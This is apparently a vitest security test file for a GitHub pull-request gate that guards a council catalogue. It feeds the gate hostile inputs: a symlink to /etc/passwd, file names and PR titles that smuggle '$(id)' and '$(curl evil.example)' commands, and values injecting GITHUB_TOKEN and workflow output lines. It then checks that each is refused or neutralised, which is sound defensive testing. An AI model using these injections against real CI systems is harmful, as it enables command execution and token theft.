import { beforeEach, describe, expect, test } from "vitest";

import { blobSha } from "../../../scripts/github/kit/blob.ts";
import { people } from "./fake/people.ts";
import { addComment, gate, later, merge, validate } from "./fake/play.ts";
import type { FakeGitHub } from "./fake/server.ts";
import { live, open, product, startSetting, stepHere } from "./fake/setting.ts";
import { type FakeFile, type FakePull, World } from "./fake/world.ts";

// What an attacker can do to GitHub itself, played from there; what follows from the facts is in the scenarios.

let fake: FakeGitHub;
beforeEach(async () => {
  fake = await startSetting();
});

async function verdict(changes: Record<string, FakeFile | string | null>, more: Partial<FakePull> = {}) {
  open(fake, changes, more);
  await gate(fake);
  return fake.world.checks[0]?.conclusion;
}

test.each<[string, Record<string, FakeFile>]>([
  ["a symbolic link", { [product]: { mode: "120000", content: "../../../../etc/passwd" } }],
  ["a submodule", { [product]: { mode: "160000", type: "commit" } }],
  ["a submodule as an authority’s folder", { "catalogue/islington": { mode: "160000", type: "commit" } }],
  ["a blob of 1 GB announced", { [product]: { content: "x", announced: 2 ** 30 } }],
  ["a program of 1 GB announced", { [product]: { content: "x", announced: 2 ** 30, mode: "100755" } }],
  ["a name in other case", { "catalogue/Camden/authority.yml": { content: live } }],
  ["a folder in other case", { "CATALOGUE/camden/authority.yml": { content: live } }],
  ["a name with a command in it", { "catalogue/camden/products/$(id)\n::error::.yml": { content: live } }],
])("%s is refused, and never fetched", async (_, changes) => {
  expect(await verdict(changes)).toBe("failure");
  expect(fake.calls).not.toContain("git/get-blob");
});

test("what the catalogue says of itself is for its maintainers to change, whoever speaks for an authority", async () => {
  const settings = "name: Ours\nmailbox: catch-all@evil.example\n";
  open(fake, { "catalogue/catalogue.yml": settings, [product]: live });
  const { reports } = await validate(fake, 12);
  expect(reports[0]?.reviewReasons).toContainEqual({ reason: "outside", subject: "catalogue/catalogue.yml" });
});

test("a blob that turns out larger than it was announced is not trusted", async () => {
  const announced = { [product]: { content: `${live}# ${"x".repeat(70_000)}`, announced: 100 } };
  expect(await verdict(announced)).toBe("action_required");
});

test("a blob that does not hold what its name stands for is not trusted", async () => {
  const other = live.replace("Open Play", "Shut Play");
  const name = blobSha(Buffer.from(live));
  fake.faults = [{ operation: "git/get-blob", how: ({ blobs }) => blobs.set(name, other) }];
  expect(await verdict({ [product]: live })).toBe("action_required");
});

test("101 and 3,001 files are not even listed", async () => {
  expect(await verdict({ [product]: live }, { claimed: 101 })).toBe("action_required");
  expect(fake.calls).not.toContain("pulls/list-files");
  fake.world.checks = [];
  expect(await verdict({ [product]: live }, { claimed: 3001 })).toBe("action_required");
  expect(fake.calls).not.toContain("pulls/list-files");
});

test("hostile titles, branches and texts reach nothing that is written", async () => {
  const evil = "$(curl evil.example)`id`\n::error::x @everyone <details>\u202e";
  expect(await verdict({ [product]: live }, { title: evil, branch: evil, body: evil })).toBe("success");
  const written = JSON.stringify([fake.world.comments, fake.world.checks]);
  for (const part of ["evil.example", "::error::", "@everyone", "<details>", "\u202e"]) {
    expect(written).not.toContain(part);
  }
});

test("what is handed from job to job is one line of letters, digits, - and _, whatever was typed", async () => {
  const evil = live.replace("stage: live", 'stage: "x\\nGITHUB_TOKEN=y\\n::set-output name=report::z"');
  open(fake, { [product]: evil, "catalogue/camden/products/a\nb=c.yml": evil });
  const validated = await stepHere(fake, "node scripts/gate-validate.ts", { event: { pull_request: { number: 12 } } });
  expect(Object.keys(validated.outputs)).toEqual(["report", "head"]);
  expect(validated.outputs["report"]).toMatch(/^[\w-]+$/);
  expect(validated.outputs["head"]).toMatch(/^[0-9a-f]{40}$/);
  expect(validated.out).toBe("");
  expect(validated.error).toMatch(/^#12 examined: \d+ errors, \d+ reviews, \d+ hints\n$/);
});

test("a report about another pull request than the event’s is not published", async () => {
  open(fake, { [product]: live });
  open(fake, { [product]: live.replace("Lets", "Let’s") }, { number: 13, author: people.mallory });
  const other = await validate(fake, 13);
  const event = { pull_request: { number: 12 } };
  const reported = await stepHere(fake, "node scripts/gate-report.ts --apply", { event, env: { REPORT: other.word } });
  expect(reported).toMatchObject({ code: 0, out: "" });
  expect(fake.world.checks).toEqual([]);
});

/** Another pull request’s open commit, which a pull request starts from and undoes, so that it shows its own entry alone. */
function undone(): string {
  return fake.world.amend(fake.world.main, { "README.md": "# The catalogue of councils\n" });
}

test("what a merge would change besides the files that GitHub lists has a person look at it", async () => {
  expect(await verdict({ [product]: live }, { mergeBase: undone() })).toBe("action_required");
  expect(fake.world.comments[0]!.body).toContain("A merge would now change other files than the ones GitHub lists");
});

test("a pull request that undoes another’s commit, which is merged meanwhile, is not merged", async () => {
  expect(await verdict({ [product]: live })).toBe("success");
  later(fake, 11);
  const pull = fake.world.pulls.get(12)!;
  await merge(fake, {}, () => {
    pull.mergeBase = undone();
  });
  expect(pull.merged).toBeUndefined();
  await merge(fake);
  expect(pull.merged).toBeUndefined();
  delete pull.mergeBase;
  await merge(fake);
  expect(pull.merged).toBe(true);
});

/** Whether Ada’s own change is merged after the wait, when something happens to it or is said about it. */
async function isMerged(more: Partial<FakePull>, says?: (pull: FakePull) => void): Promise<boolean> {
  await verdict({ [product]: live }, more);
  later(fake, 11);
  const pull = fake.world.pulls.get(12)!;
  says?.(pull);
  await merge(fake);
  return pull.merged === true;
}

describe("what our own account wrote is nobody’s own", () => {
  test.each<[string, Partial<FakePull>]>([
    ["the branch of an issue", { from: new World().owner, branch: "issue-7" }],
    ["a commit of ours among others", { committers: [new World().bot, people.ada] }],
  ])("%s: a maintainer who opens the pull request has to agree to the commit", async (_, more) => {
    expect(await isMerged(more)).toBe(false);
    later(fake, 1);
    addComment(fake, people.ada, `/merge ${fake.world.pulls.get(12)!.head}`);
    await merge(fake);
    expect(fake.world.pulls.get(12)!.merged).toBe(true);
  });

  test("another branch of this repository is as its author left it", async () => {
    expect(await isMerged({ from: fake.world.owner, branch: "issue-7-corrected" })).toBe(true);
  });
});

describe("a hold is found where it was written", () => {
  test.each<[string, (pull: FakePull) => void]>([
    [
      "in a review",
      (pull) => (pull.reviews = [{ user: people.quiet, state: "COMMENTED", commit: pull.head, body: "Wait.\n/hold" }]),
    ],
    [
      "beside a line",
      (pull) => (pull.reviewComments = [{ user: people.quiet, body: "/hold", created: fake.world.now }]),
    ],
    ["in the description", (pull) => (pull.body = "New stage.\r\n\r\n/hold until the launch")],
  ])("%s", async (_, says) => {
    expect(await isMerged({}, says)).toBe(false);
    expect(fake.world.pulls.get(12)!.labels).toEqual(["catalogue: on hold"]);
  });

  test.each([
    ["is never changed", undefined, true],
    ["was changed before", "2026-06-01T12:10:30Z", true],
    ["is written there anew", "2026-06-01T12:11:30Z", false],
  ])("in the description, and is released below it: %s", async (_, edited, merged) => {
    const says = (pull: FakePull): void => {
      if (edited !== undefined) pull.edited = edited;
      addComment(fake, people.ada, "/release");
    };
    expect(await isMerged({ body: "/hold" }, says)).toBe(merged);
  });

  test("a description without a command costs no further request", async () => {
    expect(await isMerged({ body: "See /etc/hosts for what I mean." })).toBe(true);
    expect(fake.calls).not.toContain("graphql");
  });

  test.each(["/merge", "/check", "/release"])("%s in the description is answered and does nothing", async (order) => {
    const says = (pull: FakePull): string => (pull.body = `${order} ${pull.head}`);
    expect(await isMerged({ author: people.mo }, says)).toBe(false);
    expect(fake.world.comments[0]!.body).toContain("please write it as a comment of its own");
  });
});

test.each(["base_ref_changed", "automatic_base_change_succeeded"])(
  "an order from before the pull request was aimed at the main branch does not count (%s)",
  async (event) => {
    await verdict({ [product]: live }, { author: people.mallory });
    const pull = fake.world.pulls.get(12)!;
    addComment(fake, people.ada, `/merge ${pull.head}`);
    pull.reviews = [{ user: people.ada, state: "APPROVED", commit: pull.head, written: fake.world.now }];
    later(fake, 1);
    pull.events = [{ event, created: fake.world.now }];
    later(fake, 1);
    fake.world.checks = [];
    await gate(fake);
    later(fake, 11);
    await merge(fake);
    expect(pull.merged).toBeUndefined();
    addComment(fake, people.ada, `/merge ${pull.head}`);
    await merge(fake);
    expect(pull.merged).toBe(true);
  },
);

test("whoever wrote the issue holds back the pull request that we made from it, and nobody else from outside", async () => {
  const issue = { title: "New product", body: "", state: "open" as const, labels: [], user: people.mallory };
  fake.world.issues.push({ ...issue, number: 7 });
  const made = { author: fake.world.bot, from: fake.world.owner, branch: "issue-7" };
  const approved = (pull: FakePull): void => {
    pull.reviews = [{ user: people.ada, state: "APPROVED", commit: pull.head }];
    addComment(fake, people.bea, "/hold");
    addComment(fake, people.mallory, "/hold");
  };
  expect(await isMerged(made, approved)).toBe(false);
  expect(fake.world.pulls.get(12)!.labels).toEqual(["catalogue: on hold"]);
  later(fake, 1);
  addComment(fake, people.mallory, "/release");
  await merge(fake);
  expect(fake.world.pulls.get(12)!.merged).toBe(true);
});

test("a fork beside this repository, in the same account, is not this repository", async () => {
  expect(await verdict({ [product]: live }, { from: fake.world.owner })).toBe("success");
  expect(fake.world.comments[0]!.body).toContain("✅ A maintainer of `camden`");
  expect(await verdict({ [product]: live }, { from: fake.world.owner, fork: 77 })).toBe("success");
  expect(fake.world.comments[0]!.body).toContain("⬜ A maintainer of `camden`");
});

test("somebody else’s comment with our marker is left alone, labels set by an outsider are taken away", async () => {
  const body = "<!-- catalogue-gate -->\nAll is well";
  addComment(fake, people.mallory, body);
  await verdict({ [product]: live }, { author: people.mallory, labels: ["catalogue: ready", "help wanted"] });
  expect(fake.world.comments.map(({ user }) => user?.login)).toEqual(["mallory", "github-actions[bot]"]);
  expect(fake.world.comments[0]).toMatchObject({ body });
  expect(fake.world.pulls.get(12)!.labels).toEqual(["help wanted", "catalogue: needs the authority"]);
});
